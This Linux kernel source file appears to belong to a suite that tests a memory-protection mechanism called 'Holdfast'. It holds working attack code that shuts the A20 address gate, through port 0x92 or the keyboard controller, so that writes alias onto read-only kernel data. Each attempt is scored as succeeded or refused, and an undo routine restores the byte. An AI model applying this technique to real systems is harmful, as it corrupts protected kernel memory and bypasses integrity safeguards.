// SPDX-License-Identifier: GPL-2.0-only
/*
 * The gate of address bit 20, from the days of real mode: while it is shut, that bit is clear in
 * every address the CPU sends out, behind all page tables. So a store to a page that anybody may
 * write reaches the page one MiB below. The page tables and code used meanwhile lie where the bit
 * is clear anyway. The board has one gate, of the first CPU.
 */
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/pgtable.h>
#include <linux/slab.h>
#include <linux/workqueue.h>
#include <asm/cpufeature.h>
#include <asm/io.h>
#include <asm/special_insns.h>

#include "attack.h"
#include "execute.h"
#include "memory.h"
#include "paging.h"

#define GATE	  BIT(20)
#define LEVELS	  5
#define PAGES_MAX 512 /* held until enough of them lie right */

/* Nothing of the kernel's own is there. */
#define CODE_VA	 0x400000ul
#define ALIAS_VA (CODE_VA + PAGE_SIZE)

extern const u8 a20_port[], a20_keyboard[], a20_keyboard_output[], a20_end[];

/*
 * Each is called with the address to write in RDI and the byte in RSI. The stack is used with the
 * gate open only.
 */
asm(".pushsection .rodata\n"
    "	.balign 16\n"
    "a20_port:\n" /* 0x92, system control: bit 1 */
    "	in $0x92, %al\n"
    "	and $0xfc, %al\n"
    "	out %al, $0x92\n"
    "	mov %sil, (%rdi)\n"
    "	or $2, %al\n"
    "	out %al, $0x92\n"
    "	xor %eax, %eax\n"
    "	ret\n"
    "a20_keyboard:\n" /* commands of the keyboard controller: shut, open */
    "	mov $0xdd, %al\n"
    "	out %al, $0x64\n"
    "	mov %sil, (%rdi)\n"
    "	mov $0xdf, %al\n"
    "	out %al, $0x64\n"
    "	xor %eax, %eax\n"
    "	ret\n"
    "a20_keyboard_output:\n" /* its output port: bit 1; bit 0 would reset the machine */
    "	mov $0xd1, %al\n"
    "	out %al, $0x64\n"
    "	mov $0xdd, %al\n"
    "	out %al, $0x60\n"
    "	mov %sil, (%rdi)\n"
    "	mov $0xdf, %al\n"
    "	out %al, $0x64\n"
    "	xor %eax, %eax\n"
    "	ret\n"
    "	int3\n"
    "a20_end:\n"
    ".popsection\n");

/* The kernel's page tables with two more translations: the code, and the page above the target. */
struct a20 {
	void *held[PAGES_MAX];
	unsigned int count;
	u64 *table[LEVELS]; /* root first */
	u8 *code;
	size_t entry;
	struct attempt *t;
	u8 byte;
	int err;
};

/* A zeroed page whose address has the bit clear; NULL without memory. */
static void *page_below(struct a20 *a)
{
	void *page;

	while (a->count < PAGES_MAX) {
		page = (void *)get_zeroed_page(GFP_KERNEL);
		if (!page)
			return NULL;
		a->held[a->count++] = page;
		if (!(virt_to_phys(page) & GATE))
			return page;
	}
	return NULL;
}

static int a20_prepare(struct a20 *a)
{
	unsigned int levels = cpu_feature_enabled(X86_FEATURE_LA57) ? 5 : 4, i;
	u64 above = ((u64)a->t->pfn << PAGE_SHIFT) | GATE;
	u64 *leaf;

	for (i = 0; i < levels; i++) {
		a->table[i] = page_below(a);
		if (!a->table[i])
			return -ENOMEM;
	}
	a->code = page_below(a);
	if (!a->code)
		return -ENOMEM;
	memcpy(a->code, a20_port, a20_end - a20_port);
	memcpy(a->table[0], __va(__read_cr3() & CR3_ADDR_MASK), PAGE_SIZE);
	for (i = 0; i < levels - 1; i++)
		a->table[i][i == levels - 2 ? CODE_VA >> PMD_SHIFT : 0] =
			virt_to_phys(a->table[i + 1]) | _KERNPG_TABLE_NOENC;
	leaf = &a->table[levels - 1][CODE_VA >> PAGE_SHIFT & (PTRS_PER_PTE - 1)];
	leaf[0] = virt_to_phys(a->code) | _KERNPG_TABLE_NOENC;
	leaf[1] = above | _KERNPG_TABLE_NOENC;
	return 0;
}

/* With the gate shut nothing else of the kernel's may be touched: interrupts are off. */
static long a20_run(void *argument)
{
	struct a20 *a = argument;
	u8 *code = (u8 *)CODE_VA + a->entry;
	unsigned long flags, cr3;

	a->err = a20_prepare(a);
	if (a->err)
		return 0;
	local_irq_save(flags);
	cr3 = __read_cr3();
	native_write_cr3(virt_to_phys(a->table[0]));
	a->t->trap = execute_call(code, PAGE_SIZE - a->entry,
				  ALIAS_VA + offset_in_page(a->t->va), a->byte, NULL, NULL);
	native_write_cr3(cr3);
	local_irq_restore(flags);
	return 0;
}

static int a20_store(struct attempt *t, const u8 *code, u8 byte)
{
	struct a20 *a = kzalloc(sizeof(*a), GFP_KERNEL);
	int err;

	if (!a)
		return -ENOMEM;
	a->t = t;
	a->entry = code - a20_port;
	a->byte = byte;
	work_on_cpu(0, a20_run, a);
	err = a->err;
	while (a->count)
		free_page((unsigned long)a->held[--a->count]);
	kfree(a);
	return err;
}

static bool in_image(u64 pa, const char *from, const char *to)
{
	u8 *start = attack_symbol(from), *end = attack_symbol(to);
	u64 base = (u64)paging_pfn(start) << PAGE_SHIFT;

	return pa >= base && pa < base + (end - start);
}

/* Read-only data below a page that can be written. */
static int a20_target(struct attempt *t)
{
	u8 *va = attack_symbol("__start_rodata"), *end = attack_symbol("__end_rodata");
	u64 above;

	for (; va < end; va += PAGE_SIZE) {
		above = ((u64)paging_pfn(va) << PAGE_SHIFT) | GATE;
		if (!in_image(above, "_stext", "_etext") &&
		    !in_image(above, "__start_rodata", "__end_rodata") &&
		    above >> PAGE_SHIFT != paging_pfn(va))
			return memory_target_at(t, va, 1, *va ^ 0xff);
	}
	return -ENOENT;
}

static enum attack_outcome a20_write(struct attempt *t, const u8 *code)
{
	int err = a20_target(t);

	if (!err)
		err = a20_store(t, code, t->wanted);
	if (err) {
		attack_note(t, "cannot prepare: %d", err);
		return ATTACK_ERROR;
	}
	return t->trap == TRAP_NONE ? ATTACK_SUCCEEDED : ATTACK_REFUSED;
}

static enum attack_outcome port_92(struct attempt *t)
{
	return a20_write(t, a20_port);
}

static enum attack_outcome keyboard(struct attempt *t)
{
	return a20_write(t, a20_keyboard);
}

static enum attack_outcome keyboard_output(struct attempt *t)
{
	return a20_write(t, a20_keyboard_output);
}

/* As it was changed: no other way leads round Holdfast. */
static int a20_undo(struct attempt *t)
{
	return a20_store(t, a20_port, t->was);
}

#define A20(how, what, fn)                                                                   \
	{                                                                                    \
		.name = "a20-" how,                                                          \
		.title = "write read-only data by the page above, bit 20 gated off " what,   \
		.gives = "sealed memory under another address, behind the nested tables",    \
		.asset = "A20 gate", .control = ATTACK_BARE, .run = fn, .look = memory_look, \
		.undo = a20_undo,                                                            \
	}

static const struct attack a20_attacks[] = {
	A20("port", "by port 0x92", port_92),
	A20("keyboard", "by the keyboard controller", keyboard),
	A20("output", "by the keyboard controller's output port", keyboard_output),
};

const struct attack_table a20_table = { a20_attacks, ARRAY_SIZE(a20_attacks) };
